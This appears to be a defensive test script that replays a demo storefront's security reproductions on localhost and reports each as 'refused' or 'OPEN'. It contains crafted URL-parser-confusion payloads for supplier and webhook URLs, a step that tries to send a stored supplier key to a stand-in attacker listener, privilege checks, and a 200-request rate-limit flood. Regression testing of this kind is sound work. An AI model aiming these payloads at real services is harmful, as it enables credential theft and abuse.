"""Rerun issue 29's security reproductions against a running demo (`make run`), on this machine.

    .venv/bin/python scripts/security_probe.py [--port 8000]

Every request goes to 127.0.0.1: the demo hosts (imeiserver.localhost, doctorsim.localhost) and a
loopback listener the script opens on a free port, which plays the attacker's server. Each check
prints "refused" or "OPEN" with what it saw, and the script exits 1 if any attack got through.
The load is bounded: the DHRU flood sends at most 200 calls.
"""

from __future__ import annotations

import argparse
import json
import re
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import requests

PASSWORD = "unlock-demo-2026"  # storefronts/demo: DEMO_PASSWORD
RETAIL, RESELLER = "imeiserver.localhost", "doctorsim.localhost"
UPSTREAM = "imeiserver-upstream@example.com"  # providers/demo: an account of the reseller demo only


class Listener:
    """The attacker's server on 127.0.0.1: records every request it receives."""

    def __init__(self):
        self.received: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                listener.received.append(f"{self.command} {self.path} {body[:200]!r}")
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


class Site:
    """A browser-like session on one demo host (cookies, CSRF)."""

    def __init__(self, host: str, port: int):
        self.host, self.base = host, f"http://127.0.0.1:{port}"
        self.session = requests.Session()
        self.session.trust_env = False
        self.session.headers["Host"] = f"{host}:{port}"

    def get(self, path: str, **kw):
        return self.session.get(self.base + path, allow_redirects=False, timeout=30, **kw)

    def csrf(self, path: str) -> str:
        found = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', self.get(path).text)
        return found.group(1) if found else ""

    def post(self, path: str, data: dict, *, form_path: str | None = None, **kw):
        data = {"csrfmiddlewaretoken": self.csrf(form_path or path), **data}
        headers = {"Referer": f"http://{self.session.headers['Host']}{form_path or path}"}
        return self.session.post(
            self.base + path, data=data, headers=headers, allow_redirects=False, timeout=30, **kw
        )

    def login(self, email: str) -> Site:
        response = self.post("/accounts/login/", {"login": email, "password": PASSWORD})
        if response.status_code != 302:
            raise SystemExit(f"could not sign in as {email} at {self.host}")
        return self


RESULTS: list[tuple[str, bool, str]] = []


def check(name: str, refused: bool, seen: str) -> None:
    RESULTS.append((name, refused, seen))
    print(f"{'refused' if refused else 'OPEN   '}  {name}: {seen}")


def form_fields(html: str) -> dict:
    """The admin change form's current values (inputs, checked boxes, selected options)."""
    fields: dict[str, str] = {}
    for tag in re.findall(r"<input[^>]*>", html):
        name = re.search(r'name="([^"]+)"', tag)
        if not name or 'type="submit"' in tag or 'type="password"' in tag:
            continue
        if 'type="checkbox"' in tag and "checked" not in tag:
            continue
        value = re.search(r'value="([^"]*)"', tag)
        fields[name.group(1)] = value.group(1) if value else "on"
    for name, body in re.findall(r'<select name="([^"]+)"[^>]*>(.*?)</select>', html, re.S):
        chosen = re.search(r'<option value="([^"]*)"[^>]*selected', body)
        fields[name] = chosen.group(1) if chosen else ""
    fields.pop("csrfmiddlewaretoken", None)
    return fields


def probe_supplier(admin: Site, listener: Listener) -> None:
    """Items 1 and 2: a supplier's base URL read two ways, and the stored key moved along."""
    listing = admin.get("/admin/providers/providerconnection/?kind__exact=dhru").text
    pk = re.search(r"/admin/providers/providerconnection/(\d+)/change/", listing).group(1)
    page = f"/admin/providers/providerconnection/{pk}/change/"
    fields = form_fields(admin.get(page).text)
    before = len(listener.received)
    for url in (
        f"http://127.0.0.1:{listener.port}\\@8.8.8.8/",
        f"http://user:pass@127.0.0.1:{listener.port}/",
    ):
        response = admin.post(page, {**fields, "base_url": url})
        check(
            f"supplier base URL {url}",
            response.status_code == 200 and "errornote" in response.text,
            f"HTTP {response.status_code}, form error shown: {'errornote' in response.text}",
        )
    response = admin.post(page, {**fields, "base_url": f"http://127.0.0.1:{listener.port}/"})
    check(
        "supplier moved to the listener without pasting the key",
        response.status_code == 200 and "paste the supplier" in response.text,
        f"HTTP {response.status_code}, asks for the key again: {'paste the supplier' in response.text}",
    )
    admin.post(
        "/admin/providers/providerconnection/",
        {"action": "check_balance", "_selected_action": pk, "index": "0"},
    )
    got = listener.received[before:]
    check("the listener received the stored key", not got, f"{len(got)} request(s) received")


def api_key_for(site: Site) -> str:
    response = site.post("/account/api-keys/", {"name": f"probe {time.time():.0f}"})
    page = site.get("/account/api-keys/").text
    found = re.search(r'id="new-key-value" value="([^"]+)"', page)
    if response.status_code not in (200, 302) or not found:
        raise SystemExit("could not create an API key on the account page")
    return found.group(1)


def probe_webhook(customer: Site, key: str, listener: Listener) -> None:
    before = len(listener.received)
    url = f"http://127.0.0.1:{listener.port}\\@8.8.8.8/"
    response = customer.session.put(
        customer.base + "/api/v1/webhook",
        data=json.dumps({"url": url}),
        headers={"Authorization": f"Bearer {key}", "Content-Type": "application/json"},
        timeout=30,
    )
    check(
        f"webhook {url}",
        400 <= response.status_code < 500 and len(listener.received) == before,
        f"HTTP {response.status_code}",
    )


def probe_self_credit(support: Site, admin: Site) -> None:
    """Item 3: Support credits its own wallet."""
    support.get("/billing/")  # the balance page gives any signed-in account its wallet
    page = "/admin/billing/adjustment/add/"
    form = support.get(page)
    options = re.findall(r'<option value="(\d+)"[^>]*>([^<]*support@[^<]*)</option>', form.text)
    wallet = options[0][0] if options else ""
    if not wallet:  # not offered: its id from the platform operator's wallet list
        listing = admin.get("/admin/billing/wallet/?q=support%40example.com").text
        found = re.search(r"/admin/billing/wallet/(\d+)/change/", listing)
        wallet = found.group(1) if found else ""
    if not wallet:
        check("Support credits its own wallet", True, "Support has no wallet to credit")
        return
    response = support.post(page, {"wallet": wallet, "amount": "500.00", "reason": "probe"})
    check(
        "Support credits its own wallet",
        form.status_code in (403, 404) or response.status_code != 302,
        f"form HTTP {form.status_code}, own wallet offered: {bool(options)}, "
        f"post HTTP {response.status_code}",
    )


def probe_raw_id_leak(manager: Site, other_id: str, other_email: str) -> None:
    """Item 4: another storefront's customer e-mail in a raw-id error (a catalog manager)."""
    page = "/admin/catalog/customergroup/add/"
    response = manager.post(
        page,
        {
            "name": f"probe {time.time():.0f}",
            "memberships-TOTAL_FORMS": "1",
            "memberships-INITIAL_FORMS": "0",
            "memberships-0-user": other_id,
        },
    )
    check(
        "raw-id lookup of another storefront's customer",
        other_email not in response.text,
        f"HTTP {response.status_code}, e-mail shown: {other_email in response.text}",
    )


def probe_dhru_flood(site: Site, email: str, key: str) -> None:
    """Item 5: 200 DHRU calls as fast as one client sends them."""
    statuses: dict[int, int] = {}
    started = time.monotonic()
    for _ in range(200):
        response = site.session.post(
            site.base + "/api/index.php",
            data={"username": email, "apiaccesskey": key, "action": "accountinfo"},
            timeout=30,
        )
        statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
        if response.status_code == 429:
            break
    took = time.monotonic() - started
    check(
        "DHRU endpoint flood",
        429 in statuses,
        f"{sum(statuses.values())} calls in {took:.1f} s: {statuses}",
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=8000)
    port = parser.parse_args().port
    listener = Listener()

    admin = Site(RETAIL, port).login("admin@example.com")
    probe_supplier(admin, listener)

    customer = Site(RETAIL, port).login("customer@example.com")
    key = api_key_for(customer)
    probe_webhook(customer, key, listener)

    support = Site(RETAIL, port).login("support@example.com")
    probe_self_credit(support, admin)

    reseller_admin = Site(RESELLER, port).login("admin@example.com")
    listing = reseller_admin.get(f"/admin/accounts/user/?q={UPSTREAM.replace('@', '%40')}").text
    other = re.search(r"/admin/accounts/user/(\d+)/change/", listing)
    manager = Site(RETAIL, port).login("catalog@example.com")
    probe_raw_id_leak(manager, other.group(1) if other else "1", UPSTREAM)

    probe_dhru_flood(customer, "customer@example.com", key)

    open_ = [name for name, refused, _ in RESULTS if not refused]
    print(f"\n{len(RESULTS) - len(open_)} of {len(RESULTS)} reproductions refused")
    return 1 if open_ else 0


if __name__ == "__main__":
    sys.exit(main())
